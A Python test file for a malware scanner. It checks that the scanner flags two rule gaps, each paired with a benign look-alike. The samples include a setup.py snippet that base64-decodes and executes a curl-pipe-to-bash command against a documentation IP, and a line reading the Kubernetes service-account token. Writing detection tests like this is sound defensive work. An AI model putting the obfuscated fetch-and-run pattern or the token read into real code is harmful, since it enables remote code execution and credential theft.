"""Rule gaps found among the grouped-CV misses (2026-12-05), each beside an ordinary
look-alike (defanged: documentation addresses; nothing here is run)."""

from __future__ import annotations

import pytest

from detector.code.scan import scan_files

LOCAL_DECODER = '''import base64, os
def b64d(text):
    raw = text.encode("ascii")
    return base64.b64decode(raw).decode("ascii")
os.system(b64d("{payload}"))
'''
CASES = [
    # (rule, malicious, ordinary look-alike)
    ("decode-exec",  # a local decoder whose decoder call takes a local made from its parameter
     LOCAL_DECODER.format(payload="Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IGJhc2gK"),
     'import base64, os\ndef b64e(text):\n    raw = text.encode("ascii")\n'
     '    return base64.b64encode(raw).decode("ascii")\nos.system("echo " + b64e("hi"))\n'),
    ("credential-file",  # a Kubernetes service-account token
     "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n",
     "doc = 'See https://kubernetes.io/docs/concepts/security/service-accounts/'\n"),
]


@pytest.mark.parametrize(("rule", "malicious", "ordinary"), CASES)
def test_gap_is_closed_and_its_look_alike_stays_clean(rule, malicious, ordinary):
    def rules(source: str) -> set[str]:
        return {f.rule for f in scan_files({"setup.py": source}).findings}

    assert rule in rules(malicious)
    assert rule not in rules(ordinary)


def test_the_decoded_command_is_read_as_a_command():
    found = {f.rule for f in scan_files({"setup.py": LOCAL_DECODER.format(
        payload="Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IGJhc2gK")}).findings}
    assert "shell-download-exec" in found
